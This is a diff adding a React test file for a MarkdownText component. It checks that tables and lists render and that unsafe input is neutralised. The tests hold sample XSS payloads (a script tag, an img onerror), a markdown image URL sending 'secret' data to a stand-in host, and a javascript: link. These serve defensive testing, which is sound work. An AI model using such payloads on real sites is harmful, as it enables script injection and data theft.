@@ -1,0 +1,39 @@
+import { render, screen } from '@testing-library/react'
+import { describe, expect, test } from 'vitest'
+import { MarkdownText } from './markdown-text.tsx'
+
+describe('MarkdownText', () => {
+  test('renders tables and lists', () => {
+    render(<MarkdownText text={'| a |\n| --- |\n| 1 |\n\n- one'} />)
+
+    expect(screen.getByRole('cell', { name: '1' })).toBeInTheDocument()
+    expect(screen.getByRole('listitem')).toHaveTextContent('one')
+  })
+
+  test('never renders HTML', () => {
+    const { container } = render(
+      <MarkdownText text={'<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> **bold**'} />,
+    )
+
+    expect(container.querySelector('script, img')).toBeNull()
+    expect(screen.getByText('bold')).toBeInTheDocument()
+  })
+
+  test('fetches no picture: its address could carry data away', () => {
+    const { container } = render(<MarkdownText text="![chart](https://evil.test/?data=secret)" />)
+
+    expect(container.querySelector('img')).toBeNull()
+    expect(screen.getByRole('link', { name: 'chart' })).toHaveAttribute(
+      'rel',
+      expect.stringContaining('noreferrer'),
+    )
+  })
+
+  test('drops an address that would run code', () => {
+    render(<MarkdownText text="[press](javascript:alert(1))" />)
+
+    expect(screen.getByText('press').closest('a')?.getAttribute('href') ?? '').not.toContain(
+      'javascript',
+    )
+  })
+})
